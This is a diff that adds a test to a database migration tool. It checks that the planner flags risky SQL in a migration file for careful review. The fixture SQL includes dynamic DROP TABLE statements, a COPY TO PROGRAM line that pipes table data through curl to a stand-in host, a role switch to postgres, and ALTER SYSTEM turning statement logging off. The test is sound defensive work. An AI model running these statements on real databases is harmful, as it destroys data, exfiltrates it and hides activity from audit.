@@ -120,3 +120,39 @@ test('a no-transaction file runs one statement at a time, each with the timeouts
   assert.equal(await exists(url, 'never'), false);
   assert.deepEqual(await versions(url), ['0001']);
 });
+
+test('migrate plan lists dynamic SQL, role switching, server programs and ALTER SYSTEM under "needs a careful reviewer"', async () => {
+  const url = await createDatabase(cluster(), 'careful');
+  const p = project({ 'migrations/0001_init.sql': INIT });
+  await p.apply(url);
+  p.write(
+    '0002_hidden.sql',
+    [
+      "CREATE FUNCTION purge(t text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE format('DROP TABLE %I', t); END $$;",
+      "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'items'; END $$;",
+      "COPY items TO PROGRAM 'curl -T - https://example.invalid';",
+      '-- prodguard-ignore ban-role-switching: owner change needs the owner role, checked by bob',
+      'SET ROLE postgres;',
+      "ALTER SYSTEM SET log_statement = 'none';",
+      '',
+    ].join('\n'),
+  );
+  const { runCli } = await import('../helpers/cli.js');
+  const r = await runCli(['migrate', 'plan', '--env', 'staging', '--json'], { cwd: p.dir, env: { RUNNER_STAGING_URL: url } });
+  assert.equal(r.code, 0, r.stderr);
+  const plan = JSON.parse(r.stdout);
+  assert.equal(plan.risk, 'high');
+  const careful = plan.carefulReview.map((f: { ruleId: string; line: number; suppressed?: unknown }) => `${f.line} ${f.ruleId}${f.suppressed ? ' suppressed' : ''}`);
+  assert.deepEqual(careful, [
+    '1 dynamic-sql',
+    '1 ban-destructive-statement-in-routine',
+    '2 dynamic-sql',
+    '2 ban-destructive-statement-in-routine',
+    '3 ban-server-file-access',
+    '5 ban-role-switching suppressed',
+    '6 ban-alter-system',
+  ]);
+  const text = await runCli(['migrate', 'plan', '--env', 'staging'], { cwd: p.dir, env: { RUNNER_STAGING_URL: url } });
+  assert.match(text.stdout, /needs a careful reviewer \(7\)/);
+  assert.match(text.stdout, /0002_hidden\.sql:2 ban-destructive-statement-in-routine: DO block \(EXECUTE, built at run time\) drops table items/);
+});
